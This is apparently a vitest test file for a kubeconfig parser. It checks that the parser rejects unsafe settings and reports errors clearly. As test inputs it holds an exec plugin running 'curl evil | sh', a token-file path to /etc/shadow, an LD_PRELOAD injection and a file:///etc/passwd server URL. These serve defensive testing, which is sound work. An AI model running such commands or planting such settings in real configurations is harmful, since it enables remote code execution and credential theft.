import { describe, expect, it } from 'vitest';
import { ApiError } from '../errors/api-error.js';
import { inspectKubeconfig, parseKubeconfig } from './kubeconfig-parser.js';

const CA = '-----BEGIN CERTIFICATE-----\nMIIB\n-----END CERTIFICATE-----\n';
const b64 = (s: string) => Buffer.from(s).toString('base64');
const opts = { allowedExecPlugins: ['aws'] };

function kubeconfig(user: string, extraCluster = '', current = 'a'): string {
  return `apiVersion: v1
kind: Config
current-context: ${current}
clusters:
- name: one
  cluster:
    server: https://one.example:6443/
    certificate-authority-data: ${b64(CA)}${extraCluster}
- name: two
  cluster:
    server: https://two.example:6443
users:
- name: u
  user:
${user}
contexts:
- name: a
  context: { cluster: one, user: u, namespace: shop }
- name: b
  context: { cluster: two, user: u }
`;
}

function failure(fn: () => unknown): ApiError {
  try {
    fn();
  } catch (err) {
    expect(err).toBeInstanceOf(ApiError);
    return err as ApiError;
  }
  throw new Error('expected a failure');
}

describe('parseKubeconfig', () => {
  it('keeps only inline fields of the current context', () => {
    const parsed = parseKubeconfig(kubeconfig('    token: abc\n', '\n    tls-server-name: api.internal'), opts);
    expect(parsed.context).toBe('a');
    expect(parsed.credentials).toEqual({ server: 'https://one.example:6443', caPem: CA, token: 'abc', tlsServerName: 'api.internal' });
  });

  it('uses the chosen context', () => {
    const parsed = parseKubeconfig(kubeconfig('    token: abc\n'), { ...opts, context: 'b' });
    expect(parsed.credentials.server).toBe('https://two.example:6443');
  });

  it('accepts JSON', () => {
    const json = JSON.stringify({
      clusters: [{ name: 'c', cluster: { server: 'https://c:1' } }],
      users: [{ name: 'u', user: { 'client-certificate-data': b64(CA), 'client-key-data': b64('-----BEGIN KEY-----\n') } }],
      contexts: [{ name: 'only', context: { cluster: 'c', user: 'u' } }],
    });
    const parsed = parseKubeconfig(json, opts);
    expect(parsed.context).toBe('only');
    expect(parsed.credentials.clientCertPem).toBe(CA);
  });

  it('reports a YAML error with its line', () => {
    const e = failure(() => parseKubeconfig('clusters:\n- name: a\n  cluster: [unclosed\nusers: {', opts));
    expect(e.message).toBe("the kubeconfig is not valid YAML or JSON (line 4, column 1): Flow sequence in block collection must be sufficiently indented and end with a ]");
    expect(e.field).toBe('kubeconfig');
  });

  it('reports a missing server', () => {
    const text = kubeconfig('    token: abc\n').replace('    server: https://one.example:6443/\n', '');
    expect(failure(() => parseKubeconfig(text, opts)).message).toMatch(/clusters\[one\]\.cluster\.server is missing/);
  });

  it('reports an unknown context on the context field', () => {
    const e = failure(() => parseKubeconfig(kubeconfig('    token: abc\n'), { ...opts, context: 'zzz' }));
    expect(e.field).toBe('context');
    expect(e.message).toContain('has no context "zzz"; it has: a, b');
  });

  it('asks for a context when there are several and no current-context', () => {
    const text = kubeconfig('    token: abc\n').replace('current-context: a\n', '');
    const e = failure(() => parseKubeconfig(text, opts));
    expect(e.field).toBe('context');
    expect(e.message).toContain('choose one of: a, b');
  });

  it.each([
    ['    tokenFile: /var/run/secrets/token\n', 'tokenFile refers to a file', 'inline it as token'],
    ['    token-file: /etc/shadow\n', 'token-file refers to a file', 'inline it as token'],
    ['    client-certificate: /home/me/cert.pem\n    client-key-data: x\n', 'client-certificate refers to a file', 'client-certificate-data'],
  ])('refuses file references (%s)', (user, what, hint) => {
    const e = failure(() => parseKubeconfig(kubeconfig(user), opts));
    expect(e.message).toContain(what);
    expect(e.message).toContain(hint);
  });

  it('refuses a certificate-authority file on the cluster', () => {
    const e = failure(() => parseKubeconfig(kubeconfig('    token: abc\n', '\n    certificate-authority: /etc/ca.pem'), opts));
    expect(e.message).toContain('inline it as certificate-authority-data');
  });

  it('refuses exec plugins not on ALLOWED_EXEC_PLUGINS and keeps allowed ones', () => {
    const evil = '    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: /bin/sh\n      args: ["-c", "curl evil | sh"]\n';
    expect(failure(() => parseKubeconfig(kubeconfig(evil), opts)).message).toMatch(/runs "\/bin\/sh" on the server, which is not in ALLOWED_EXEC_PLUGINS \(aws\)/);
    const aws = '    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: aws\n      args: [eks, get-token]\n';
    expect(parseKubeconfig(kubeconfig(aws), opts).credentials.exec).toEqual({
      command: 'aws',
      args: ['eks', 'get-token'],
      apiVersion: 'client.authentication.k8s.io/v1',
    });
  });

  it('refuses an exec plugin for a server without TLS: its credentials would cross in clear', () => {
    const aws = '    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: aws\n      args: [eks, get-token]\n';
    const plain = kubeconfig(aws).replace(/server: https:/, 'server: http:');
    expect(plain).toContain('server: http:');
    expect(failure(() => parseKubeconfig(plain, opts)).message).toContain('without TLS');
  });

  it('refuses exec env entries that change how programs load code', () => {
    const preload = '    exec:\n      apiVersion: client.authentication.k8s.io/v1\n      command: aws\n      env: [{ name: LD_PRELOAD, value: /tmp/x.so }]\n';
    expect(failure(() => parseKubeconfig(kubeconfig(preload), opts)).message).toContain('exec.env sets LD_PRELOAD');
  });

  it('refuses auth-provider plugins', () => {
    const gcp = '    auth-provider:\n      name: gcp\n      config: { cmd-path: /usr/bin/gcloud }\n';
    expect(failure(() => parseKubeconfig(kubeconfig(gcp), opts)).message).toContain('auth-provider runs a program on the server');
  });

  it('refuses a server that is not an https URL', () => {
    const text = kubeconfig('    token: abc\n').replace('https://one.example:6443/', 'file:///etc/passwd');
    expect(failure(() => parseKubeconfig(text, opts)).message).toContain('must be an https:// (or, without TLS, http://) URL');
  });
});

describe('parseKubeconfig proxy-url', () => {
  it('keeps an http, https or socks5 proxy-url', () => {
    for (const proxyUrl of ['http://proxy.corp:3128', 'https://proxy.corp:3129', 'socks5://127.0.0.1:1080']) {
      const parsed = parseKubeconfig(kubeconfig('    token: t', `\n    proxy-url: ${proxyUrl}`), opts);
      expect(parsed.credentials.proxyUrl).toBe(proxyUrl);
    }
  });

  it('refuses a proxy-url the console cannot dial, naming the field', () => {
    expect(failure(() => parseKubeconfig(kubeconfig('    token: t', '\n    proxy-url: ftp://proxy.corp:21'), opts)).message).toMatch(
      /clusters\[one\]\.cluster\.proxy-url must be an http:\/\/, https:\/\/ or socks5:\/\/ URL/,
    );
    expect(failure(() => parseKubeconfig(kubeconfig('    token: t', '\n    proxy-url: not a url'), opts)).message).toMatch(/proxy-url is not a URL/);
    // what does not parse is not echoed: it may be a URL with a password and a typo
    const typo = failure(() => parseKubeconfig(kubeconfig('    token: t', '\n    proxy-url: "http://squid:hunter2@proxy corp:3128"'), opts));
    expect(typo.message).toMatch(/proxy-url is not a URL/);
    expect(typo.message).not.toContain('hunter2');
  });
});

describe('inspectKubeconfig', () => {
  it('lists contexts with their servers and no credentials', () => {
    const result = inspectKubeconfig(kubeconfig('    token: very-secret\n'));
    expect(result.currentContext).toBe('a');
    expect(result.contexts).toEqual([
      { name: 'a', cluster: 'one', user: 'u', namespace: 'shop', server: 'https://one.example:6443/' },
      { name: 'b', cluster: 'two', user: 'u', server: 'https://two.example:6443' },
    ]);
    expect(JSON.stringify(result)).not.toContain('very-secret');
  });
});
